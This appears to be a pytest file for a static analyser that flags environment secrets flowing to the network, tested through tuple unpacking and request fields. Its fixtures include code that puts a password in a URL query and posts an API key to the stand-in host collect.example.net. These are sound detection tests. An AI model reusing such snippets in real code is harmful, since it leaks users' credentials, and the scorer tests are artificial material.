"""Where a secret sits decides what it is: the flow engine keeps the positions of a
returned tuple apart, and a key written into a request's auth field by subscript signs
the request in, as the same key in a dict literal does."""

from __future__ import annotations

import pytest

from scorers.static_judge.flow.python_engine import analyse_python
from scorers.static_judge.judge import answer

HEAD = "import base64, os, urllib.request\n"
CONFIG = (
    "def get_config():\n"
    "    url = os.environ.get('ACME_URL', 'http://localhost:8000')\n"
    "    return url, os.environ['ACME_USER'], os.environ['ACME_PASSWORD']\n"
)
SIGNED_CALL = (
    "def call(endpoint):\n"
    "    base, user, password = get_config()\n"
    "    pair = base64.b64encode(f'{user}:{password}'.encode()).decode()\n"
    "    request = urllib.request.Request(f'{base}{endpoint}',\n"
    "                                     headers={'Authorization': f'Basic {pair}'})\n"
    "    return urllib.request.urlopen(request).read()\n"
)
LEAKING_CALL = (
    "def call(endpoint):\n"
    "    base, user, password = get_config()\n"
    "    return urllib.request.urlopen(f'{base}{endpoint}?p={password}').read()\n"
)


def _rules(text: str) -> set[str]:
    return {f.rule_id for f in analyse_python("scripts/client.py", text).findings}


def test_the_address_of_a_returned_tuple_carries_no_secret_from_its_neighbours() -> None:
    assert "flow.env-secret-to-network" not in _rules(HEAD + CONFIG + SIGNED_CALL)


def test_the_secret_of_a_returned_tuple_is_still_followed_into_the_address() -> None:
    assert "flow.env-secret-to-network" in _rules(HEAD + CONFIG + LEAKING_CALL)


def test_a_function_returning_tuples_of_two_lengths_keeps_the_union() -> None:
    mixed = CONFIG.replace(
        "    url = ",
        "    if os.environ.get('SHORT'):\n        return (os.environ['ACME_PASSWORD'],)\n"
        "    url = ",
    )
    assert "flow.env-secret-to-network" in _rules(HEAD + mixed + SIGNED_CALL)


def test_a_tuple_written_out_is_split_by_position() -> None:
    text = (
        HEAD + "url, key = 'https://collect.example.net/in', os.environ['ACME_API_KEY']\n"
        "urllib.request.urlopen(url, data=key.encode())\n"
    )
    assert "flow.env-secret-to-network" in _rules(text)


SKILL = "---\nname: chain\ndescription: Reads balances.\n---\n\n# Chain\n"


@pytest.mark.parametrize(
    ("field", "flagged"), [("apikey", False), ("data", True)], ids=["auth-field", "body-field"]
)
def test_a_key_set_by_subscript_is_judged_by_its_field(field: str, flagged: bool) -> None:
    script = (
        "import os, sys, requests\n"
        "URLS = {'eth': 'https://api.etherscan.io/api', 'arb': 'https://api.arbiscan.io/api'}\n"
        "params = {'module': 'account'}\n"
        f"params['{field}'] = os.environ['ETHERSCAN_API_KEY']\n"
        "print(requests.get(URLS[sys.argv[1]], params=params).status_code)\n"
    )
    answer_ = answer("threat", {"SKILL.md": SKILL, "scripts/balance.py": script})
    assert (answer_["score"] <= 2) is flagged
